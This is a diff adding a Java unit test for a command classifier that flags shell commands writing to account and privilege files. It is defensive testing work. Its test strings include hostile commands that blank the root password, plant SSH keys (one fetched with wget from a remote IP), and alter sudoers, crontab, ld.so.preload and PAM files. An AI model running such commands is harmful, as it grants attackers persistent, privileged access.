@@ -119,4 +119,25 @@ class CapabilitiesTest {
         assertThat(shows(Family.SECRET_READ, "cat ~/.ssh/id_ed25519.pub")).isFalse();
         assertThat(shows(Family.SECRET_READ, "tail -n 20 ~/.bash_history")).isFalse();
     }
+
+    @Test
+    void aLoginOrPrivilegeFileWrittenThroughAProgramsSideIsAnAccountWrite() {
+        assertThat(shows(Family.ACCOUNT_WRITE, "dd of=/etc/sudoers.d/90-web conv=notrunc")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "openssl enc -d -base64 -in /var/tmp/k -out /root/.ssh/authorized_keys")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "sed -i 's/^root:x:/root::/' /etc/passwd")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "perl -pi -e 's/^www-data:[^:]*:/www-data::/' /etc/shadow")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "rsync /dev/shm/job /var/spool/cron/crontabs/root")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "split -n 1 /tmp/pre /etc/ld.so.preload")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "wget -q http://198.51.100.9/k -O /home/alice/.ssh/authorized_keys")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "mv /tmp/.p /etc/pam.d/sshd")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "install -m 600 keys.pub /root/.ssh/authorized_keys")).isTrue();
+        // administration: own keys, a job or sudoers file from the build tree, other files of /etc
+        assertThat(shows(Family.ACCOUNT_WRITE, "cp ~/.ssh/id_ed25519.pub ~/.ssh/authorized_keys")).isFalse();
+        assertThat(shows(Family.ACCOUNT_WRITE, "cp backup/cronjob /etc/cron.d/backup")).isFalse();
+        assertThat(shows(Family.ACCOUNT_WRITE, "sed -i 's/^#Port 22/Port 2222/' /etc/ssh/sshd_config")).isFalse();
+        assertThat(shows(Family.ACCOUNT_WRITE, "cp /etc/passwd /etc/passwd.bak")).isFalse();
+        assertThat(shows(Family.ACCOUNT_WRITE, "sort -o /tmp/p.sorted /etc/passwd")).isFalse();
+        assertThat(shows(Family.ACCOUNT_WRITE, "ssh -o StrictHostKeyChecking=no deploy@web1 uptime")).isFalse();
+        assertThat(shows(Family.ACCOUNT_WRITE, "visudo -cf /etc/sudoers.d/app")).isFalse();
+    }
 }
